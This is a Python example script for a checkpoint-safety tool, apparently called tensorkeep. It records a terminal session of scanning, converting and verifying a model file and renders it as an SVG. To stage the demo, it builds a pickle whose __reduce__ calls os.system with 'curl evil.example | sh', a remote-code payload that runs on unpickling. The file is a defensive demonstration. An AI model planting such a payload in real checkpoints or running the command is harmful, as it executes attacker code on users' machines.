"""Draw the terminal of README: run its commands, and write what they print as docs/assets/terminal.svg.

`python examples/terminal.py`. Somebody sends a checkpoint that hides a command. It is scanned and converted; then one
bit of the copy flips.
"""

from __future__ import annotations

import os
import subprocess
import sys
import tempfile
from html import escape
from io import StringIO
from pathlib import Path

import torch
from rich.console import Console
from rich.terminal_theme import TerminalTheme
from rich.text import Text

import tensorkeep

__all__ = ["COMMANDS", "PICTURE", "run"]

PICTURE = Path(__file__).parents[1] / "docs" / "assets" / "terminal.svg"
COLUMNS = 92
COMMANDS = (
    "tensorkeep scan downloaded.pt",
    "tensorkeep convert downloaded.pt safe --drop-unknown",
    "tensorkeep verify safe",
    "flip-a-bit safe/model.safetensors",
    "tensorkeep verify safe",
)

_BACKGROUND, _TEXT = (24, 28, 34), (214, 219, 226)
_COLOURS = [
    (84, 92, 104),
    (240, 98, 96),
    (122, 200, 122),
    (229, 192, 104),
    (104, 168, 246),
    (204, 142, 230),
    (92, 200, 200),
    (214, 219, 226),
]
_THEME = TerminalTheme(_BACKGROUND, _TEXT, _COLOURS)
_SVG = """\
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}" role="img" aria-labelledby="{unique_id}-about">
<title id="{unique_id}-about">A terminal: a checkpoint that hides a command is scanned, converted and verified</title>
<desc>DESCRIPTION</desc>
<style>
.{unique_id}-matrix {{ font: {char_height}px ui-monospace, Menlo, Consolas, 'DejaVu Sans Mono', monospace; }}
{styles}
</style>
<defs>{lines}</defs>
<rect width="{width}" height="{height}" rx="8" fill="rgb(24,28,34)"/>
<g transform="translate({terminal_x}, 14)">{backgrounds}<g class="{unique_id}-matrix">{matrix}</g></g>
</svg>
"""


class Downloaded:
    """What unpickling would run."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("curl evil.example | sh",)


def run(folder: Path, *, colour: bool) -> list[tuple[str, str]]:
    """Run the commands in a folder; return each with what it printed."""
    torch.manual_seed(0)
    layers = {f"layers.{i}.weight": torch.randn(64, 64, dtype=torch.bfloat16) for i in range(4)}
    model = {"embedding.weight": torch.randn(1000, 64), **layers}
    torch.save({"model": model, "epoch": 3, "callback": Downloaded()}, folder / "downloaded.pt")
    environment = {name: value for name, value in os.environ.items() if name not in {"NO_COLOR", "FORCE_COLOR"}}
    environment |= {"COLUMNS": str(COLUMNS), **({"FORCE_COLOR": "1"} if colour else {"NO_COLOR": "1"})}
    return [(command, _printed(command, folder, environment)) for command in COMMANDS]


def _printed(command: str, folder: Path, environment: dict[str, str]) -> str:
    program, *arguments = command.split()
    if program == "flip-a-bit":
        path = folder / arguments[0]
        content = bytearray(path.read_bytes())
        content[200_000] ^= 1
        path.write_bytes(content)
        return ""
    done = subprocess.run(
        [sys.executable, "-m", "tensorkeep", *arguments], cwd=folder, env=environment, capture_output=True, text=True
    )
    return done.stdout.strip("\n")


def draw(session: list[tuple[str, str]]) -> str:
    """Return the terminal as SVG, with the same as text in its description."""
    console = Console(record=True, width=COLUMNS, file=StringIO(), force_terminal=True, color_system="truecolor")
    for number, (command, printed) in enumerate(session):
        if number and not command.startswith("flip"):
            console.print()
        if command.startswith("flip"):
            console.print(Text(f"\n# one bit of {command.split()[1]} flips", style="italic dim"))
            continue
        console.print(Text.assemble(("$ ", "bold green"), (command, "bold")))
        console.print(Text.from_ansi(printed))
    text = "\n".join(f"$ {command}\n{Text.from_ansi(printed).plain}" for command, printed in session)
    svg = console.export_svg(theme=_THEME, code_format=_SVG, unique_id="tk")
    lines = [line.rstrip() for line in svg.replace("DESCRIPTION", escape(text)).splitlines()]
    return "\n".join(lines) + "\n"


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as folder:
        PICTURE.parent.mkdir(exist_ok=True)
        PICTURE.write_text(draw(run(Path(folder), colour=True)), encoding="utf-8")
    print(f"wrote {PICTURE}; tensorkeep {tensorkeep.__version__}")
